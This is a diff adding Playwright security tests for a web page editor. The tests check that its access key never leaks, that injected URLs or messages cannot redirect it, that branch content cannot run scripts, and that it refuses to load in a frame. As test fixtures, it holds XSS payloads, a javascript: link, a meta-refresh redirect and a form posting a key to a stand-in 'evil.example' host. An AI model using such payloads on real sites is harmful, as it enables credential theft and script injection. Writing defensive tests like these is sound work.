@@ -357,3 +357,120 @@ test('on a phone the page and the bar fit the screen', async ({page, host}) => {
   await expect(editorOn(page).main).toBeVisible()
   expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360)
 })
+
+// S14.63
+test('the key is in no log, address, commit or message, whatever fails', async ({page, host}) => {
+  const logged: string[] = []
+  page.on('console', (message) => logged.push(message.text()))
+  page.on('pageerror', ({message, stack}) => logged.push(`${message} ${stack}`))
+  page.on('framenavigated', (frame) => logged.push(frame.url()))
+  const {main, status, textEditor} = editorOn(page)
+  await open(page, '/about', host)
+  const heading = main.getByRole('heading', {level: 1})
+  await heading.click()
+  await expect(textEditor).toBeFocused()
+  const faults = [
+    ['notJson', 'gave an unexpected answer'],
+    ['broken', 'has a problem of its own'],
+    ['rateLimit', 'too much in a short time'],
+  ] as const
+  for (const [fault, words] of faults) {
+    host.failNext(fault, /matching-refs/)
+    await retype(page, `Money despite ${fault}`)
+    await expect(status).toContainText(words)
+    logged.push(await page.locator('body').innerText(), await status.innerText())
+  }
+  await page.keyboard.press('ControlOrMeta+s')
+  await expect(status).toHaveText('Saved.')
+  const stored = await page.evaluate(() => JSON.stringify([{...localStorage}, {...sessionStorage}]))
+  const commits = host.git('log', '--all', '--patch', '--format=fuller')
+  expect([...logged, stored, commits, page.url()].filter((text) => text.includes(host.key))).toEqual([])
+})
+
+// S14.63
+test('neither an address nor a message of another page changes where the key is sent', async ({
+  page,
+  host,
+}) => {
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(new URL(request.url()).origin))
+  const evil = 'https://evil.example'
+  await page.goto(`/edit/about?key=x&api=${evil}&repository=evil/site&workerFile=${evil}/w.js#api=${evil}`)
+  await page.evaluate((address) => {
+    const access = {repository: 'evil/site', key: 'x', api: address, branch: ''}
+    for (const data of [{open: access, siteFile: `${address}/site.json`}, {signedOut: 'Sign in.'}])
+      postMessage(data, '*')
+  }, evil)
+  await signIn(page, host.key)
+  await editorOn(page).bar.waitFor()
+  await page.goto('/edit//evil.example/about')
+  expect(asked.filter((origin) => origin.endsWith('evil.example'))).toEqual([])
+})
+
+// S14.63
+test('what a colleague’s branch has in its words runs nothing and leads nowhere', async ({page, host}) => {
+  const source = host.git('show', 'main:pages/about.mdx')
+  const attacks = [
+    '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />',
+    '<script async src="/attack.js">{`window.attacked = true`}</script>',
+    '<img src="/none.png" alt="A picture" onError="window.attacked = true" />',
+    '<iframe srcDoc="&lt;script&gt;top.attacked = true&lt;/script&gt;" />',
+    '<html data-api="https://evil.example" data-repository="evil/site" />',
+    '<form id="siteSignIn" action="https://evil.example/"><input name="key" /></form>',
+    '[Click me first](javascript:window.attacked=true)',
+    '## Heading with {window.attacked = true} <b onClick="window.attacked = true">in it</b>',
+  ]
+  const blob = host.gitWithInput(
+    `${source}\n\n${attacks.join('\n\n')}\n\nAfter all of these.\n`,
+    'hash-object',
+    '-w',
+    '--stdin',
+  )
+  host.git('read-tree', 'main')
+  host.git('update-index', '--cacheinfo', `100644,${blob},pages/about.mdx`)
+  const tree = host.git('write-tree')
+  host.git('update-ref', 'refs/heads/main', host.git('commit-tree', tree, '-p', 'main', '-m', 'Attack'))
+  const {main} = editorOn(page)
+  await page.route('**/attack.js', (route) =>
+    route.fulfill({contentType: 'text/javascript', body: 'window.attacked = true'}),
+  )
+  await open(page, '/about', host)
+  await expect(main.getByText('After all of these.')).toBeVisible()
+  await main.getByText('Click me first').click({modifiers: ['ControlOrMeta']})
+  await page.waitForTimeout(1000)
+  expect(await page.evaluate(() => ('attacked' in window ? 'attacked' : 'safe'))).toBe('safe')
+  await expect(page).toHaveURL(/\/edit\/about$/)
+  await expect(page.locator('main :is(script, iframe, form[action], meta)')).toHaveCount(0)
+  await expect(page.locator('html')).toHaveAttribute('data-api', api)
+})
+
+// S14.63
+test('inside a page of another site the editor does not start, also where the host sends no header', async ({
+  page,
+  host,
+  address,
+}) => {
+  await page.goto('/edit/about')
+  await signIn(page, host.key, true)
+  await editorOn(page).bar.waitFor()
+  await page.route('**/edit/about', async (route) => {
+    const response = await route.fetch()
+    const headers = Object.fromEntries(
+      Object.entries(response.headers()).filter(([name]) => !/^(x-frame|content-security)/.test(name)),
+    )
+    await route.fulfill({response, headers})
+  })
+  // A page of this site is as good: it has the key in its storage.
+  await page.route('**/framing', (route) =>
+    route.fulfill({
+      contentType: 'text/html',
+      body: `<iframe src="${address}/edit/about" width="900" height="600"></iframe>`,
+    }),
+  )
+  const before = host.requests.length
+  await page.goto('/framing')
+  const frame = page.frameLocator('iframe')
+  await expect(frame.getByText('The editor does not start inside another page.')).toBeVisible()
+  await expect(frame.getByLabel('Your key')).toHaveCount(0)
+  expect(host.requests.length).toBe(before)
+})
